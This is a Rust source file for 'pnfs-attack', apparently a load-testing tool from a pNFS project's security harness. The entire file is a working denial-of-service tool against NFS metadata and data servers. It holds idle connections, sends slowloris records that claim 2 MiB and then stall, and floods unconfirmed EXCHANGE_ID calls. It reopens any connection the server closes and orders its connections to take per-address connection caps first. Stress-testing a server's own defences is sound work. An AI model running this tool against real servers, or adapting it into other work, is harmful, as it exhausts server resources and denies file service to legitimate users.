//! pnfs-attack: the resource-exhaustion load of the security issue's target,
//! from one address, held for a fixed time (perf/attack-load drives it).
//!
//!   pnfs-attack --from 127.0.0.2 --mds HOST:PORT --ds HOST:PORT [--ds ...]
//!               --idle N --slowloris N --exchange-ids N --seconds S
//!               [--exchange-conns 4] [--window 64] [--reopen-ms 1000]
//!               [--threads 4]
//!
//! - idle: connections that never send a byte;
//! - slowloris: connections that send a record header claiming 2 MiB, the
//!   first 1 MiB of that record (an NFS COMPOUND call header, then zeros),
//!   then stall;
//!
//! both spread round-robin over the MDS and every DS NFS port. A connection
//! the server closes (at accept: a connection cap; later: an idle or record
//! deadline) is opened again after --reopen-ms, until --seconds end.
//! - EXCHANGE_IDs: --exchange-ids distinct client owners, never confirmed,
//!   sent to the MDS over --exchange-conns connections, --window calls
//!   pipelined per connection (write a window, read its replies).
//!
//! Prints one JSON line on stdout with what was achieved. Per target (mds,
//! ds1, ...): `opened` connections, `connect_failed` (connect() failed),
//! `slow_connects` (connect() took 1 s or more: a full listen backlog) and
//! `slow_connects_s` (when the first and the last of them began, seconds),
//! `refused` (closed by the server within 1 s of opening: a connection cap
//! at accept), `closed_by_server` (closed later: idle or record deadline),
//! `peak_held` / `held_at_end` (open for 1 s or longer: what the server
//! keeps), `slowloris_bytes` written and `slowloris_written` (records whose
//! 1 MiB went into the socket, refused ones included); totals of these; for
//! EXCHANGE_ID: `sent`, `answered`, `ok`, `delay` (NFS4ERR_DELAY),
//! `other_status`, `rpc_errors`, `conn_lost` and `seconds_to_send`. On stderr a
//! line starting "pnfs-attack: ramped" once every EXCHANGE_ID was sent and
//! answered (or given up) and the connections had 3 s to open, so a driver
//! knows the full load is on. Memory: one shared 1 MiB slowloris body, a
//! 64 KiB scratch buffer per thread, a window of EXCHANGE_ID calls per
//! connection. Refused or reset connections are counted, never fatal.

use nofile::raise_nofile;
use pnfs_client::net::connect_from;
use pnfs_client::pnfs_protocol::record::{RecordReader, LAST_FRAGMENT};
use pnfs_client::pnfs_protocol::rpc::{self, Message};
use pnfs_client::pnfs_protocol::wire::*;
use pnfs_client::pnfs_protocol::xdr::{Encoder, Opaque, XdrEncode};
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs};
use std::os::fd::AsRawFd;
use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, AtomicI64, AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::{Duration, Instant};

#[path = "../nofile.rs"]
mod nofile;

const USAGE: &str = "\
usage: pnfs-attack --from IP --mds HOST:PORT [--ds HOST:PORT ...] [--idle N]
                   [--slowloris N] [--exchange-ids N] [--seconds S]
                   [--exchange-conns N] [--window N] [--reopen-ms MS]
                   [--threads N]
  --from IP          local address every connection is bound to (e.g. 127.0.0.2)
  --mds, --ds        NFS ports to attack (idle and slowloris connections are
                     spread round-robin over all of them; EXCHANGE_IDs go to
                     the MDS)
  --idle N           connections that never send anything (default 0)
  --slowloris N      connections sending a 2 MiB record header and 1 MiB of
                     its body, then nothing (default 0)
  --exchange-ids N   EXCHANGE_IDs with distinct owners, never confirmed
                     (default 0)
  --seconds S        how long everything is held (default 30)
  --exchange-conns N connections the EXCHANGE_IDs use (default 4)
  --window N         EXCHANGE_IDs pipelined per connection (default 64)
  --reopen-ms MS     a connection the server closed (or refused) is opened
                     again after this long (default 1000)
  --threads N        threads holding the idle and slowloris connections
                     (default 4)
";

/// Length the slowloris record header claims: the servers' default
/// max_record_bytes, so the header itself is accepted.
const SLOWLORIS_CLAIM: usize = 2 << 20;
/// Body bytes a slowloris connection sends before it stalls.
const SLOWLORIS_SENT: usize = 1 << 20;
/// A connection the server closes sooner than this after it opened counts
/// as refused (closed at accept), later as closed by a deadline.
const REFUSED_WITHIN: Duration = Duration::from_secs(1);

struct Opts {
    from: IpAddr,
    mds: SocketAddr,
    ds: Vec<SocketAddr>,
    idle: usize,
    slowloris: usize,
    exchange_ids: u64,
    seconds: f64,
    exchange_conns: usize,
    window: usize,
    reopen: Duration,
    threads: usize,
}

fn parse(args: &[String]) -> Result<Opts, String> {
    fn addr(s: &str) -> Result<SocketAddr, String> {
        s.to_socket_addrs()
            .map_err(|e| format!("'{s}' is not HOST:PORT ({e})"))?
            .next()
            .ok_or_else(|| format!("'{s}' resolves to nothing"))
    }
    fn num<T: std::str::FromStr>(name: &str, s: &str) -> Result<T, String> {
        s.parse().map_err(|_| format!("{name}: '{s}' is not a number"))
    }
    let mut from = None;
    let mut mds = None;
    let mut o = Opts {
        from: IpAddr::from([127, 0, 0, 2]),
        mds: addr("127.0.0.1:2049")?,
        ds: vec![],
        idle: 0,
        slowloris: 0,
        exchange_ids: 0,
        seconds: 30.0,
        exchange_conns: 4,
        window: 64,
        reopen: Duration::from_millis(1000),
        threads: 4,
    };
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if a == "--help" || a == "-h" {
            return Err(String::new());
        }
        let v = it.next().ok_or_else(|| format!("{a} needs a value"))?;
        match a.as_str() {
            "--from" => from = Some(v.parse().map_err(|_| format!("--from: '{v}' is not an IP address"))?),
            "--mds" => mds = Some(addr(v)?),
            "--ds" => o.ds.push(addr(v)?),
            "--idle" => o.idle = num(a, v)?,
            "--slowloris" => o.slowloris = num(a, v)?,
            "--exchange-ids" => o.exchange_ids = num(a, v)?,
            "--seconds" => o.seconds = num(a, v)?,
            "--exchange-conns" => o.exchange_conns = num(a, v)?,
            "--window" => o.window = num(a, v)?,
            "--reopen-ms" => o.reopen = Duration::from_millis(num(a, v)?),
            "--threads" => o.threads = num(a, v)?,
            _ => return Err(format!("unknown option {a} (see --help)")),
        }
    }
    o.from = from.ok_or("--from IP is required (the attacker's address, e.g. 127.0.0.2)")?;
    o.mds = mds.ok_or("--mds HOST:PORT is required")?;
    if !(o.seconds > 0.0 && o.seconds <= 86_400.0) {
        return Err("--seconds must be in (0, 86400]".into());
    }
    if o.exchange_conns == 0 || o.window == 0 || o.threads == 0 {
        return Err("--exchange-conns, --window and --threads must be at least 1".into());
    }
    if o.window > 4096 {
        return Err("--window must be at most 4096".into());
    }
    Ok(o)
}

/// Counters of one attacked NFS port.
#[derive(Default)]
struct Target {
    idle_slots: AtomicU64,
    slowloris_slots: AtomicU64,
    opened: AtomicU64,
    connect_failed: AtomicU64,
    /// connect() took REFUSED_WITHIN or longer: the listen backlog was full
    /// and SYNs were dropped (the listener accepts slower than the flood).
    slow_connects: AtomicU64,
    /// When the first and last slow connect began (ms since the start;
    /// first is u64::MAX while there was none).
    slow_first_ms: AtomicU64,
    slow_last_ms: AtomicU64,
    refused: AtomicU64,
    closed_by_server: AtomicU64,
    /// Open (as far as this side knows) and held: open for REFUSED_WITHIN
    /// or longer, i.e. the server kept them.
    open: AtomicI64,
    held: AtomicI64,
    peak_held: AtomicI64,
    slowloris_bytes: AtomicU64,
    slowloris_written: AtomicU64,
    unexpected_bytes: AtomicU64,
}

impl Target {
    fn opened(&self) {
        self.opened.fetch_add(1, Relaxed);
        self.open.fetch_add(1, Relaxed);
    }
    fn now_held(&self) {
        let n = self.held.fetch_add(1, Relaxed) + 1;
        self.peak_held.fetch_max(n, Relaxed);
    }
    fn closed(&self, held: bool) {
        self.open.fetch_sub(1, Relaxed);
        if held {
            self.held.fetch_sub(1, Relaxed);
        }
        if held { &self.closed_by_server } else { &self.refused }.fetch_add(1, Relaxed);
    }
}

#[derive(Default)]
struct Exchange {
    sent: AtomicU64,
    answered: AtomicU64,
    ok: AtomicU64,
    delay: AtomicU64,
    other_status: AtomicU64,
    rpc_errors: AtomicU64,
    connects: AtomicU64,
    connect_failed: AtomicU64,
    conn_lost: AtomicU64,
    /// Connection attempts made (the other connections wait for each
    /// EXCHANGE_ID connection's first one).
    tried: AtomicU64,
    done: AtomicU64,
    micros_to_done: AtomicU64,
}

struct Slot {
    target: usize,
    slowloris: bool,
    stream: Option<TcpStream>,
    opened_at: Instant,
    /// Open for REFUSED_WITHIN or longer (counted in Target::held).
    held: bool,
    sent: usize,
    next_try: Instant,
}

/// The slowloris record: header claiming SLOWLORIS_CLAIM bytes, then the
/// first SLOWLORIS_SENT of them (a COMPOUND call header, then zeros).
fn slowloris_payload() -> Vec<u8> {
    let mut e = Encoder::new();
    e.put_u32(LAST_FRAGMENT | SLOWLORIS_CLAIM as u32);
    rpc::begin_call(&mut e, 0x5107_0000, rpc::NFS4_PROGRAM, rpc::NFS_V4, rpc::PROC_COMPOUND, true);
    let mut v = e.buf;
    v.resize(4 + SLOWLORIS_SENT, 0);
    v
}

/// Holds a share of the idle and slowloris connections until `deadline`,
/// then keeps them open until `stop` (once main has counted them).
fn hold(
    o: &Opts,
    addrs: &[SocketAddr],
    targets: &[Target],
    mut slots: Vec<Slot>,
    payload: &[u8],
    deadline: Instant,
    stop: &AtomicBool,
) {
    let start = deadline - Duration::from_secs_f64(o.seconds);
    let mut scratch = vec![0u8; 64 * 1024];
    let mut fds: Vec<libc::pollfd> = Vec::with_capacity(slots.len());
    let mut idx: Vec<usize> = Vec::with_capacity(slots.len());
    loop {
        let now = Instant::now();
        if now >= deadline {
            break;
        }
        for s in slots.iter_mut().filter(|s| s.stream.is_none() && s.next_try <= now) {
            let t = &targets[s.target];
            let began = Instant::now();
            let r = connect_from(o.from, addrs[s.target]).and_then(|c| c.set_nonblocking(true).map(|()| c));
            if began.elapsed() >= REFUSED_WITHIN {
                t.slow_connects.fetch_add(1, Relaxed);
                let at = began.saturating_duration_since(start).as_millis() as u64;
                t.slow_first_ms.fetch_min(at, Relaxed);
                t.slow_last_ms.fetch_max(at, Relaxed);
            }
            match r {
                Ok(c) => {
                    t.opened();
                    s.stream = Some(c);
                    s.opened_at = Instant::now();
                    s.held = false;
                    s.sent = 0;
                }
                Err(_) => {
                    t.connect_failed.fetch_add(1, Relaxed);
                    s.next_try = Instant::now() + o.reopen;
                }
            }
            if Instant::now() >= deadline {
                break;
            }
        }
        fds.clear();
        idx.clear();
        for (i, s) in slots.iter().enumerate() {
            if let Some(c) = &s.stream {
                let mut events = libc::POLLIN;
                if s.slowloris && s.sent < payload.len() {
                    events |= libc::POLLOUT;
                }
                fds.push(libc::pollfd { fd: c.as_raw_fd(), events, revents: 0 });
                idx.push(i);
            }
        }
        // Wake for the next re-open, at most every 100 ms.
        let next = slots.iter().filter(|s| s.stream.is_none()).map(|s| s.next_try).min();
        let wait = next
            .map_or(Duration::from_millis(100), |t| t.saturating_duration_since(Instant::now()))
            .min(Duration::from_millis(100))
            .min(deadline.saturating_duration_since(Instant::now()));
        // SAFETY: fds is a valid array of fds.len() pollfd structs.
        let n = unsafe { libc::poll(fds.as_mut_ptr(), fds.len() as libc::nfds_t, wait.as_millis() as libc::c_int) };
        if n < 0 {
            continue;
        }
        let now = Instant::now();
        for (p, &i) in fds.iter().zip(&idx) {
            if p.revents & (libc::POLLIN | libc::POLLHUP | libc::POLLERR) == 0 {
                // Still open when looked at, REFUSED_WITHIN after opening:
                // the server keeps it. (Judged here, not from the clock
                // alone, so that a close noticed late still counts as a
                // refusal.)
                let s = &mut slots[i];
                if !s.held && now.duration_since(s.opened_at) >= REFUSED_WITHIN {
                    s.held = true;
                    targets[s.target].now_held();
                }
            }
            if p.revents == 0 {
                continue;
            }
            let s = &mut slots[i];
            let t = &targets[s.target];
            let Some(c) = s.stream.as_mut() else { continue };
            let mut closed = false;
            if p.revents & libc::POLLOUT != 0 {
                match c.write(&payload[s.sent..]) {
                    Ok(n) => {
                        s.sent += n;
                        t.slowloris_bytes.fetch_add(n as u64, Relaxed);
                        if s.sent == payload.len() {
                            t.slowloris_written.fetch_add(1, Relaxed);
                        }
                    }
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock || e.kind() == io::ErrorKind::Interrupted => {}
                    Err(_) => closed = true,
                }
            }
            if !closed && p.revents & (libc::POLLIN | libc::POLLHUP | libc::POLLERR) != 0 {
                match c.read(&mut scratch) {
                    Ok(0) => closed = true,
                    Ok(n) => {
                        t.unexpected_bytes.fetch_add(n as u64, Relaxed);
                    }
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock || e.kind() == io::ErrorKind::Interrupted => {}
                    Err(_) => closed = true,
                }
            }
            if closed {
                s.stream = None;
                t.closed(s.held);
                s.next_try = Instant::now() + o.reopen;
            }
        }
    }
    while !stop.load(Relaxed) {
        std::thread::sleep(Duration::from_millis(10));
    }
    for s in &mut slots {
        if s.stream.take().is_some() {
            targets[s.target].open.fetch_sub(1, Relaxed);
            if s.held {
                targets[s.target].held.fetch_sub(1, Relaxed);
            }
        }
    }
}

/// One EXCHANGE_ID call record (owner `pnfs-attack/<pid>/<conn>/<n>`).
fn exchange_call(buf: &mut Vec<u8>, xid: u32, conn: usize, n: u64) {
    let owner = format!("pnfs-attack/{}/{conn}/{n}", std::process::id());
    let mut e = Encoder::with_buffer(std::mem::take(buf));
    let start = e.len();
    e.put_u32(0); // record mark, patched below
    rpc::begin_call(&mut e, xid, rpc::NFS4_PROGRAM, rpc::NFS_V4, rpc::PROC_COMPOUND, true);
    let args = EXCHANGE_ID4args {
        eia_clientowner: client_owner4 { co_verifier: n.to_be_bytes(), co_ownerid: Opaque::borrowed(owner.as_bytes()) },
        eia_flags: 0,
        eia_state_protect: state_protect4_a::SP4_NONE,
        eia_client_impl_id: vec![],
    };
    let ok = e.put_opaque(b"", NFS4_OPAQUE_LIMIT).is_ok() && {
        e.put_u32(1); // minor version
        e.put_u32(1); // one op
        nfs_argop4::OP_EXCHANGE_ID(args).encode(&mut e).is_ok()
    };
    debug_assert!(ok, "EXCHANGE_ID encodes");
    let len = e.len() - start - 4;
    e.patch_u32(start, LAST_FRAGMENT | len as u32);
    *buf = e.into_inner();
}

/// Sends `quota` EXCHANGE_IDs over one connection (reconnecting when the
/// server closes it), then holds the connection until `deadline`.
fn exchange(o: &Opts, conn: usize, quota: u64, x: &Exchange, deadline: Instant, stop: &AtomicBool) {
    let started = Instant::now();
    let mut stream: Option<(TcpStream, RecordReader)> = None;
    let mut next_n = 0u64;
    let mut xid = (conn as u32) << 24;
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    while next_n < quota && Instant::now() < deadline && !stop.load(Relaxed) {
        if stream.is_none() {
            match connect_from(o.from, o.mds) {
                Ok(c) => {
                    let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                    x.connects.fetch_add(1, Relaxed);
                    x.tried.fetch_add(1, Relaxed);
                    stream = Some((c, RecordReader::new(64 * 1024)));
                }
                Err(_) => {
                    x.connect_failed.fetch_add(1, Relaxed);
                    x.tried.fetch_add(1, Relaxed);
                    std::thread::sleep(o.reopen.min(deadline.saturating_duration_since(Instant::now())));
                    continue;
                }
            }
        }
        let Some((c, rr)) = stream.as_mut() else { continue };
        let batch = (o.window as u64).min(quota - next_n);
        buf.clear();
        for k in 0..batch {
            xid = xid.wrapping_add(1);
            exchange_call(&mut buf, xid, conn, next_n + k);
        }
        if c.write_all(&buf).is_err() {
            x.conn_lost.fetch_add(1, Relaxed);
            stream = None;
            std::thread::sleep(o.reopen.min(deadline.saturating_duration_since(Instant::now())));
            continue;
        }
        next_n += batch;
        x.sent.fetch_add(batch, Relaxed);
        // Read this window's replies (a slow server: wait, up to the deadline).
        let mut left = batch;
        let mut lost = false;
        while left > 0 && Instant::now() < deadline {
            match c.read(&mut chunk) {
                Ok(0) => lost = true,
                Ok(n) => match rr.feed_all(&chunk[..n]) {
                    Ok(recs) => {
                        for rec in recs {
                            left = left.saturating_sub(1);
                            x.answered.fetch_add(1, Relaxed);
                            match rpc::parse_message(&rec) {
                                Ok(Message::Reply { accepted: Some(0), body, .. }) if body.len() >= 4 => {
                                    let st = u32::from_be_bytes([body[0], body[1], body[2], body[3]]);
                                    if st == nfsstat4::NFS4_OK as u32 {
                                        x.ok.fetch_add(1, Relaxed);
                                    } else if st == nfsstat4::NFS4ERR_DELAY as u32 {
                                        x.delay.fetch_add(1, Relaxed);
                                    } else {
                                        x.other_status.fetch_add(1, Relaxed);
                                    }
                                }
                                _ => {
                                    x.rpc_errors.fetch_add(1, Relaxed);
                                }
                            }
                        }
                    }
                    Err(_) => lost = true,
                },
                Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut | io::ErrorKind::Interrupted) => {}
                Err(_) => lost = true,
            }
            if lost {
                break;
            }
        }
        if lost {
            // The unanswered calls go again (same owners) on a new connection.
            x.conn_lost.fetch_add(1, Relaxed);
            next_n -= left;
            stream = None;
            std::thread::sleep(o.reopen.min(deadline.saturating_duration_since(Instant::now())));
        }
    }
    x.done.fetch_add(1, Relaxed);
    x.micros_to_done.fetch_max(started.elapsed().as_micros() as u64, Relaxed);
    // Hold the connection (it counts against the address's caps) until the end.
    while Instant::now() < deadline && !stop.load(Relaxed) {
        std::thread::sleep(Duration::from_millis(100).min(deadline.saturating_duration_since(Instant::now())));
    }
    drop(stream);
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let o = match parse(&args) {
        Ok(o) => o,
        Err(e) if e.is_empty() => {
            print!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Err(e) => {
            eprintln!("pnfs-attack: {e}");
            return ExitCode::from(2);
        }
    };
    let want = (o.idle + o.slowloris + o.exchange_conns + 64) as u64;
    let (nofile, nofile_max) = raise_nofile(want);
    if nofile < want {
        eprintln!(
            "pnfs-attack: RLIMIT_NOFILE is {nofile} (hard {nofile_max}), below the {want} descriptors asked for: \
             connections past it fail to open (counted as connect_failed); raise it with ulimit -n"
        );
    }

    let mut addrs = vec![o.mds];
    addrs.extend(&o.ds);
    let targets: Arc<Vec<Target>> =
        Arc::new(addrs.iter().map(|_| Target { slow_first_ms: AtomicU64::new(u64::MAX), ..Target::default() }).collect());
    let x = Arc::new(Exchange::default());
    let stop = Arc::new(AtomicBool::new(false));
    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(o.seconds);
    let o = Arc::new(o);

    // EXCHANGE_ID connections first: they would not get in once the idle
    // ones fill the address's connection cap.
    let mut handles = Vec::new();
    let conns = o.exchange_conns.min(o.exchange_ids.max(1) as usize);
    if o.exchange_ids > 0 {
        for c in 0..conns {
            let quota = o.exchange_ids / conns as u64 + u64::from((c as u64) < o.exchange_ids % conns as u64);
            let (o, x, stop) = (o.clone(), x.clone(), stop.clone());
            handles.push(std::thread::spawn(move || exchange(&o, c, quota, &x, deadline, &stop)));
        }
    }

    // Let the EXCHANGE_ID connections in first (at most 2 s).
    let first = Instant::now();
    while o.exchange_ids > 0 && (x.tried.load(Relaxed) as usize) < conns && first.elapsed() < Duration::from_secs(2) {
        std::thread::sleep(Duration::from_millis(5));
    }

    // Slowloris and idle slots, round-robin over the targets, dealt to
    // threads. Slowloris ones first: whichever opens first takes the
    // address's connection cap, and they cost the servers the most.
    let payload = Arc::new(slowloris_payload());
    let mut per_thread: Vec<Vec<Slot>> = (0..o.threads).map(|_| Vec::new()).collect();
    for i in 0..o.idle + o.slowloris {
        let slowloris = i < o.slowloris;
        let target = i % addrs.len();
        let t = &targets[target];
        if slowloris { &t.slowloris_slots } else { &t.idle_slots }.fetch_add(1, Relaxed);
        per_thread[i % o.threads].push(Slot { target, slowloris, stream: None, opened_at: start, held: false, sent: 0, next_try: start });
    }
    for slots in per_thread.into_iter().filter(|s| !s.is_empty()) {
        let (o, addrs, targets, payload, stop) = (o.clone(), addrs.clone(), targets.clone(), payload.clone(), stop.clone());
        handles.push(std::thread::spawn(move || hold(&o, &addrs, &targets, slots, &payload, deadline, &stop)));
    }

    // Ramp report: EXCHANGE_IDs done and the connections had 3 s to open.
    let mut ramped = false;
    while Instant::now() < deadline {
        if !ramped
            && x.done.load(Relaxed) as usize >= if o.exchange_ids > 0 { conns } else { 0 }
            && start.elapsed() >= Duration::from_secs(3)
        {
            ramped = true;
            let open: Vec<String> = targets.iter().map(|t| t.held.load(Relaxed).to_string()).collect();
            eprintln!(
                "pnfs-attack: ramped after {:.1} s: connections held per target [{}], EXCHANGE_IDs answered {}/{}",
                start.elapsed().as_secs_f64(),
                open.join(", "),
                x.answered.load(Relaxed),
                o.exchange_ids
            );
        }
        std::thread::sleep(Duration::from_millis(100).min(deadline.saturating_duration_since(Instant::now())));
    }
    // Held counts just before letting go (the threads' last poll ends first).
    std::thread::sleep(Duration::from_millis(150));
    let held_at_end: Vec<i64> = targets.iter().map(|t| t.held.load(Relaxed)).collect();
    stop.store(true, Relaxed);
    for h in handles {
        let _ = h.join();
    }

    let mut s = format!(
        "{{\"from\":\"{}\",\"seconds\":{:.1},\"reopen_ms\":{},\"nofile\":{nofile},\"targets\":[",
        o.from,
        start.elapsed().as_secs_f64(),
        o.reopen.as_millis()
    );
    let (mut opened, mut refused, mut closed, mut failed) = (0, 0, 0, 0);
    for (i, (t, a)) in targets.iter().zip(&addrs).enumerate() {
        let g = |c: &AtomicU64| c.load(Relaxed);
        opened += g(&t.opened);
        refused += g(&t.refused);
        closed += g(&t.closed_by_server);
        failed += g(&t.connect_failed);
        s += &format!(
            "{}{{\"role\":\"{}\",\"addr\":\"{a}\",\"idle_slots\":{},\"slowloris_slots\":{},\"opened\":{},\
             \"connect_failed\":{},\"slow_connects\":{},\"slow_connects_s\":[{}],\"refused\":{},\"closed_by_server\":{},\"peak_held\":{},\"held_at_end\":{},\
             \"slowloris_bytes\":{},\"slowloris_written\":{},\"unexpected_bytes\":{}}}",
            if i == 0 { "" } else { "," },
            if i == 0 { "mds".to_string() } else { format!("ds{i}") },
            g(&t.idle_slots),
            g(&t.slowloris_slots),
            g(&t.opened),
            g(&t.connect_failed),
            g(&t.slow_connects),
            match g(&t.slow_first_ms) {
                u64::MAX => String::new(),
                f => format!("{:.1},{:.1}", f as f64 / 1e3, g(&t.slow_last_ms) as f64 / 1e3),
            },
            g(&t.refused),
            g(&t.closed_by_server),
            t.peak_held.load(Relaxed),
            held_at_end[i],
            g(&t.slowloris_bytes),
            g(&t.slowloris_written),
            g(&t.unexpected_bytes),
        );
    }
    let g = |c: &AtomicU64| c.load(Relaxed);
    s += &format!(
        "],\"opened\":{opened},\"connect_failed\":{failed},\"refused\":{refused},\"closed_by_server\":{closed},\
         \"exchange_id\":{{\"asked\":{},\"conns\":{},\"connects\":{},\"connect_failed\":{},\"conn_lost\":{},\
         \"sent\":{},\"answered\":{},\"ok\":{},\"delay\":{},\"other_status\":{},\"rpc_errors\":{},\"seconds_to_send\":{:.2}}}}}",
        o.exchange_ids,
        if o.exchange_ids > 0 { conns } else { 0 },
        g(&x.connects),
        g(&x.connect_failed),
        g(&x.conn_lost),
        g(&x.sent),
        g(&x.answered),
        g(&x.ok),
        g(&x.delay),
        g(&x.other_status),
        g(&x.rpc_errors),
        g(&x.micros_to_done) as f64 / 1e6,
    );
    println!("{s}");
    ExitCode::SUCCESS
}
